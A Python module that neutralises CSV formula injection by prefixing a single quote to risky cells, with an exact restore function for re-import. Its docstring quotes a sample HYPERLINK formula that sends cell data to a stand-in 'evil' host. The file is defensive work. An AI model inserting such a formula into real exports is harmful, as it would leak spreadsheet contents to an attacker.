"""CSV cells that a spreadsheet cannot run as formulas, and the way back.

A spreadsheet treats a cell whose first character is ``=``, ``+``, ``-`` or ``@`` as a
formula (some skip leading spaces first, and a leading tab or carriage return can hide
one), so a title such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the analyst's
machine. As OWASP recommends, such a cell is written with a single quote in front,
which spreadsheets show as text. :func:`restore_cell` removes exactly that quote again,
so our own CSV import gives back the text that was exported. A text that already starts
with a quote before such a character gets one more, so the way back is exact for every
text.
"""

from __future__ import annotations

_TRIGGERS = frozenset("=+-@")
_HIDERS = ("\t", "\r")


def _runs(text: str) -> bool:
    """True when a spreadsheet could read ``text`` as a formula."""
    if text.startswith(_HIDERS):
        return True
    first = text.lstrip(" ")[:1]
    return first in _TRIGGERS


def _needs_quote(text: str) -> bool:
    # Quotes already in front are counted, so restore_cell can tell ours from the text's.
    return _runs(text.lstrip("'"))


def defuse_cell(text: str) -> str:
    """``text`` made inert for spreadsheets: one single quote in front when needed."""
    return "'" + text if _needs_quote(text) else text


def restore_cell(text: str) -> str:
    """The text :func:`defuse_cell` was given, from what it returned."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text
